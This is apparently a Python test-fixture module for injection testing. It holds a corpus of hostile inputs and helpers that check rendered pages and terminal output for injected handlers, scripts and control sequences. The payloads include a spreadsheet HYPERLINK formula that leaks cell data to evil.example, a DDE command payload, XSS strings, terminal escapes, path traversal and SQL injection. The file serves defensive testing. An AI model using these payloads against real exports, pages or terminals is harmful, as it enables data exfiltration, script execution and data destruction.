"""Words that want to be more than words, and what tells that one got through; every export, page and terminal is tried with them."""

from __future__ import annotations

import re
from html.parser import HTMLParser

STEERING = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
)
"""What no terminal may be sent by others' words."""
COLOUR = re.compile(r"\x1b\[(?:[0-9]{1,3}(?:;[0-9]{1,3})*)?m")

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " =1+1",
    "＝1+1",
)
MARKUP = (
    "<script>window.stolen=1</script>",
    "<img src=x onerror=window.stolen=1>",
    '"><svg onload=window.stolen=1>',
    "' autofocus onfocus=window.stolen=1 '",
    "</textarea></title></style><script>window.stolen=1</script>",
    "<a href='javascript:window.stolen=1'>x</a>",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    "&lt;b&gt;&#0;",
)
MARKDOWN = (
    "![seen](http://evil.example/seen.png)",
    "[click](javascript:window.stolen=1)",
    "[click][evil]\n\n[evil]: http://evil.example",
    "<http://evil.example> http://evil.example www.evil.example a@evil.example",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "```\nout of the fence\n```` \n~~~",
    "# heading\n- list\n> quote\n***\n---",
    "\\[x^2\\] $$\\href{javascript:alert(1)}{x}$$",
    "---\nlicense: mit\n---",
)
TERMINAL = (
    "\x1b]0;title\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[2J\x1b[1;1Hpwned",
    "\x1b[8mhidden\x1b[0m",
    "\x1b[5mblink",
    "\x1bP+q544e\x1b\\",
    "\x9b31m\x9d0;t\x9c",
    "a\rb\x08c\x7fd\x0ce\x0bf\x00g\x07",
    "\u202eexe.txt\u202c \u2066x\u2069 \u200fz",
    "\ufeff\u2060\u2028\u2029\U000e0041",
)
ODD = (
    "",
    "\x00",
    "NaN",
    "null",
    "1e999",
    "9007199254740993",
    "🇹🇼👩‍👩‍👧‍👦 𝒳 é",
    "../../etc/passwd",
    "%s%n{0}",
    "'; DROP TABLE events;--",
    "x" * 100_000,
    "\n" * 50,
)
CORPUS = (*FORMULAS, *MARKUP, *MARKDOWN, *TERMINAL, *ODD)
LONE = "\ud800 half \udfff"
"""No text at all: JSON can write it, UTF-8 cannot."""


class Elements(HTMLParser):
    """The elements and attributes of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def foreign_elements(html: str) -> list[str]:
    """What others' words made of a page: scripts without our address, handlers, pictures, links that run or lead away."""
    parser = Elements()
    parser.feed(html)
    found = []
    for tag, attributes in parser.seen:
        for name, value in attributes.items():
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                found.append(f"{tag} {name}={value}")
        if tag == "script" and not (attributes.get("src") or "").startswith("/static/"):
            found.append(f"script {attributes}")
        if tag in {"img", "iframe", "object", "embed", "form"} and "evil" in str(attributes):
            found.append(f"{tag} {attributes}")
        # an answer's own link is one, but it tells nobody who follows it, and leaves the page open
        kept = (attributes.get("rel"), attributes.get("target")) == ("nofollow noopener noreferrer", "_blank")
        if tag == "a" and "evil" in (attributes.get("href") or "") and not kept:
            found.append(f"a {attributes}")
    return found


def steers(shown: str) -> list[str]:
    """What a terminal was sent that is neither text nor colour; line ends as a terminal writes them."""
    left = COLOUR.sub("", shown.replace("\r\n", "\n"))
    return STEERING.findall(left) + [
        one for one in COLOUR.findall(shown) if re.search(r"[;\[]0*[568](?=[;m])", one)
    ]
